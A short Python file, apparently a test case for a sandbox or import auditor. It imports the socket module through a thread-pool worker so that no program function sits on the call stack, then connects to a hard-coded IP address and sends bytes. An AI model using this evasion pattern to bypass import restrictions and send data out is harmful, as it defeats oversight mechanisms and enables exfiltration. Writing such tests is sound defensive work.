"""A pool is allowed; its thread calls __import__ without any function of the program on its stack."""
import concurrent.futures

with concurrent.futures.ThreadPoolExecutor() as pool:
    socket = pool.submit(__import__, "socket").result()
socket.create_connection(("93.184.216.35", 9000)).sendall(b"data")
